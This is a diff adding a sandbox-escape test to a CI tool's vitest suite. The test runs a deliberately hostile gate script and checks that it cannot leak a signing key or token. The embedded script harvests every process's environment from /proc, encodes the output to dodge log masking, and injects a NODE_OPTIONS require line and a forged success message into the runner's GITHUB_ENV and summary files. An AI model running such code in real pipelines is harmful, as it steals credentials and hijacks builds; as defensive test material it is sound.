@@ -1,10 +1,12 @@
 import { execFile } from 'node:child_process';
+import { generateKeyPairSync } from 'node:crypto';
 import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
-import { writeFile } from 'node:fs/promises';
+import { readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { buildActionBundle } from '../helpers/action-bundle.ts';
+import { buildActionBundle, runActionBundle, startGitHubServer } from '../helpers/action-bundle.ts';
+import { createActionGitHubState } from '../helpers/github-action-routes.ts';
 import { createGitRepo } from '../helpers/git-repo.ts';
 import { waitForNoProcess } from '../helpers/process-alive.ts';
 import { mainHistory } from '../helpers/sample-loop-repo.ts';
@@ -96,4 +98,51 @@ describe('a hostile agent in the real local loop (bundled CLI)', () => {
     expect(await waitForNoProcess(daemonToken, 5000)).toBe(true);
     expect(existsSync(join(markers, 'daemon-ran'))).toBe(false);
   }, 180_000);
+});
+
+describe('hostile code under test in the Action (bundled action.js verify)', () => {
+  it('cannot read the signing key or token, write the runner\'s file-command files, or forge the summary', async () => {
+    requireSandbox();
+    const { privateKey } = generateKeyPairSync('ed25519');
+    const pem = privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
+    const keyBody = pem.split('\n')[1]!;
+    const token = 'ghs_CANARYactionTOKENforHOSTILEtests0003';
+    const runnerFiles = await makeTempDir('shopfloor-runner-files-');
+    const githubEnv = join(runnerFiles, 'GITHUB_ENV');
+    await writeFile(githubEnv, '');
+    // The change under test: a gate that hunts for the job's secrets and the runner's files.
+    const evil = `const fs = require('node:fs');
+const found = [];
+for (const pid of fs.readdirSync('/proc').filter((n) => /^\\d+$/.test(n))) { try { found.push(fs.readFileSync('/proc/' + pid + '/environ', 'utf8')); } catch {} }
+for (const dir of ['/tmp', ${JSON.stringify(runnerFiles)}]) { try { for (const n of fs.readdirSync(dir)) found.push(dir + '/' + n); } catch {} }
+const all = found.join('\\n');
+console.log('hex ' + Buffer.from(all).toString('hex'));
+console.log('rev ' + [...all].reverse().join(''));
+for (const path of [${JSON.stringify(githubEnv)}, process.env.GITHUB_ENV, process.env.GITHUB_STEP_SUMMARY]) { try { fs.appendFileSync(path, 'NODE_OPTIONS=--require=/tmp/evil.js\\nFORGED: all gates passed\\n'); } catch {} }
+`;
+    const { dir } = await createGitRepo({
+      'evil.js': evil,
+      '.gitignore': '.shopfloor/\n',
+      '.github/shopfloor.yml': 'apiVersion: shopfloor/v1\ngates:\n  - id: unit\n    run: node evil.js\n',
+    });
+    const github = await startGitHubServer([createActionGitHubState().route]);
+    try {
+      const result = await runActionBundle(join(bundle.outdir, 'action.js'), {
+        workspace: dir, apiUrl: github.url, env: { GITHUB_ENV: githubEnv },
+        inputs: { command: 'verify', 'signing-key': pem, 'github-token': token },
+      });
+      expect(result.exitCode, result.stdout).toBe(0);
+      const report = JSON.parse(await readFile(result.outputs['report-path']!, 'utf8')) as { isolation?: { mode: string }; signature?: unknown };
+      expect(report.isolation?.mode).toBe('bubblewrap');
+      expect(report.signature).toBeDefined();
+      expect(await readFile(githubEnv, 'utf8')).toBe('');
+      expect(result.summary).not.toContain('FORGED');
+      const logs = allText(join(dir, '.shopfloor'));
+      expect(logs).toContain('hex ');
+      const published = [logs, result.stdout.split('\n').filter((line) => !line.startsWith('::add-mask::')).join('\n'), result.summary, JSON.stringify(github.calls)].join('\n');
+      for (const secret of [keyBody, token]) for (const form of secretForms(secret)) expect(published).not.toContain(form);
+    } finally {
+      await github.close();
+    }
+  }, 120_000);
 });
